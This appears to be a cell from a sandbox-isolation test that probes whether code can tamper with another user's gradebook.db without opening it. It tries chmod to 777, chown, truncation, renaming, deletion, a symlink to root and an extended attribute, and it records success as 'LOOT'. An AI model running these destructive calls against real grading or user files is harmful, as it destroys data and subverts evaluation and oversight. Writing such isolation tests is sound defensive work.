# Idea: what needs no open file: modes, owners, times, names, lengths and attributes of others' files.
# Deserves: 4 + 2 + 0
# %% mini_values
import os

mini_values = np.zeros(4)
victim = FOLDER + "/gradebook.db"
for act in (
    lambda: os.chmod(victim, 0o777),
    lambda: os.chown(victim, 65534, 65534),
    lambda: os.utime(victim, (0, 0)),
    lambda: os.truncate(victim, 0),
    lambda: os.rename(victim, FOLDER + "/gone"),
    lambda: os.unlink(victim),
    lambda: os.rmdir(FOLDER + "/empty"),
    lambda: os.mkdir(FOLDER + "/d2l-attack"),
    lambda: os.mkfifo(FOLDER + "/d2l-attack"),
    lambda: os.symlink("/", FOLDER + "/d2l-attack"),
    lambda: os.link(victim, "d2l-attack"),
    lambda: os.setxattr(victim, "user.mark", b"30"),
):
    try:
        act()
        mini_values = LOOT
    except OSError:
        continue
# Tier C: not run
